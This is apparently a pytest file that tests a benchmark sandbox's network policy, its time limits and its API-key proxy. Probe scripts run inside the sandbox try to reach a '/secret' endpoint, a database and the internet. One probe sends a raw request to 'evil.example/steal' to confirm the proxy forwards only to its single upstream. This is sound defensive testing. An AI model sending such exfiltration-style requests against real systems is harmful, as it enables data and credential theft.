"""The sandbox's one way out: the forwarder to the endpoints a policy names, nothing else."""

from __future__ import annotations

import sys
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

from lhbench.sandbox import Endpoint, Limits, get_sandbox, policy_for, run_sandboxed_sync
from tests.security.helpers import bounded, survivors


class _Hello(BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.seen.append(self.path)
        body = b"model says hi"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


def _server() -> ThreadingHTTPServer:
    srv = ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


PROBE = """
import socket, sys, urllib.request
def get(url):
    try:
        return urllib.request.urlopen(url, timeout=3).read().decode()
    except Exception as e:
        return 'blocked: ' + type(e).__name__
def tcp(host, port):
    try:
        socket.create_connection((host, port), timeout=3); return 'open'
    except OSError as e:
        return 'blocked: ' + (e.strerror or type(e).__name__)
model, other = int(sys.argv[1]), int(sys.argv[2])
print('model', get(f'http://127.0.0.1:{model}/v1/models'))
print('other', get(f'http://127.0.0.1:{other}/secret'))
print('postgres', tcp('127.0.0.1', 5432))
print('internet', tcp('1.1.1.1', 443))
"""


def test_only_the_model_endpoint_is_reachable(tmp_path: Path) -> None:
    model, other = _server(), _server()
    _Hello.seen.clear()
    try:
        mport, oport = model.server_address[1], other.server_address[1]
        policy = policy_for(
            tmp_path, writable=[tmp_path], endpoints=[Endpoint("127.0.0.1", mport, mport)]
        )
        with bounded(60):
            res = run_sandboxed_sync(
                get_sandbox(), [sys.executable, "-c", PROBE, str(mport), str(oport)], policy
            )
    finally:
        model.shutdown()
        other.shutdown()
    lines = dict(line.split(" ", 1) for line in res.text().splitlines())
    assert lines["model"] == "model says hi", res.text("stderr")
    assert lines["other"].startswith("blocked")
    assert lines["postgres"].startswith("blocked") and lines["internet"].startswith("blocked")
    assert _Hello.seen == ["/v1/models"]  # the other server never heard from the sandbox


def test_a_named_model_host_resolves_only_to_the_forwarder(tmp_path: Path) -> None:
    model = _server()
    try:
        port = model.server_address[1]
        # the client keeps the host name (for TLS); inside it resolves to the relay
        policy = policy_for(tmp_path, endpoints=[Endpoint("localhost", port, port)])
        code = (
            "import socket, urllib.request\n"
            "print(socket.gethostbyname('localhost'))\n"
            f"print(urllib.request.urlopen('http://localhost:{port}/x', timeout=3).read().decode())"
        )
        with bounded(60):
            res = run_sandboxed_sync(get_sandbox(), [sys.executable, "-c", code], policy)
    finally:
        model.shutdown()
    assert res.text().split() == ["127.0.0.1", "model", "says", "hi"]


def test_wall_time_kills_the_whole_group(tmp_path: Path) -> None:
    # a marker of this test's own: the same test may run at once in another suite
    # (.ci/run runs the unprivileged pass beside the main one), whose sleeper is not ours
    marker = f"lhb-wall-group-{uuid.uuid4().hex[:12]}"
    code = (
        "import os, signal, subprocess, time\n"
        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        f"subprocess.Popen(['sh', '-c', 'trap \"\" TERM; sleep 300 # {marker}'])\n"
        "while True: time.sleep(1)\n"
    )
    policy = policy_for(tmp_path, limits=Limits(wall_s=2, cpu_s=10))
    with bounded(30):
        res = run_sandboxed_sync(get_sandbox(), [sys.executable, "-c", code], policy)
    assert res.timed_out and survivors(marker) == []


def test_cpu_time_limit(tmp_path: Path) -> None:
    policy = policy_for(tmp_path, limits=Limits(wall_s=30, cpu_s=1))
    with bounded(30):
        res = run_sandboxed_sync(get_sandbox(), [sys.executable, "-c", "while True: pass"], policy)
    assert not res.timed_out and res.returncode != 0  # SIGXCPU/SIGKILL at one CPU second


class _KeyCheck(BaseHTTPRequestHandler):
    seen: ClassVar[list[tuple[str, str, str]]] = []

    def do_GET(self) -> None:
        self.seen.append(
            (self.path, self.headers.get("Authorization", ""), self.headers.get("x-api-key", ""))
        )
        body = b"data: one\n\ndata: two\n\n"
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


def test_the_model_key_stays_on_the_host(tmp_path: Path) -> None:
    from lhbench.sandbox.proxy import PLACEHOLDER_KEY, KeyProxy

    real = "sk-real-" + "9" * 20
    srv = ThreadingHTTPServer(("127.0.0.1", 0), _KeyCheck)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    _KeyCheck.seen.clear()
    code = (
        "import os, urllib.request\n"
        "print(sorted(v for v in os.environ.values() if v.startswith('sk-real')))\n"
        f"k = {PLACEHOLDER_KEY!r}\n"
        "r = urllib.request.Request('http://127.0.0.1:18080/v1/models?key=' + k,"
        " headers={'Authorization': 'Bearer ' + k, 'x-api-key': k})\n"
        "print(urllib.request.urlopen(r, timeout=5).read().decode().split())\n"
        # an absolute-form request for another host still goes to the one upstream
        "import socket\n"
        "s = socket.create_connection(('127.0.0.1', 18080))\n"
        "s.sendall(b'GET http://evil.example/steal HTTP/1.1\\r\\nHost: evil.example\\r\\n"
        "Connection: close\\r\\n\\r\\n')\n"
        "print(s.recv(100).split(b' ')[1].decode())\n"
    )
    try:
        with KeyProxy(
            tmp_path / "model.sock", f"http://127.0.0.1:{srv.server_address[1]}", real
        ) as proxy:
            policy = policy_for(
                tmp_path,
                env={"OPENAI_API_KEY": PLACEHOLDER_KEY},
                endpoints=[Endpoint("127.0.0.1", 0, 18080, socket=proxy.path)],
            )
            with bounded(60):
                res = run_sandboxed_sync(get_sandbox(), [sys.executable, "-c", code], policy)
    finally:
        srv.shutdown()
    lines = res.text().splitlines()
    assert lines[0] == "[]", res.text("stderr")  # no real key anywhere in the sandbox
    assert lines[1] == "['data:', 'one', 'data:', 'two']"
    assert lines[2] == "200"
    (p1, auth, xkey), (p2, _, _) = _KeyCheck.seen
    assert auth == f"Bearer {real}" and xkey == real and p1 == f"/v1/models?key={real}"
    assert p2 == "/steal"  # the upstream's own path: the proxy reaches nothing else
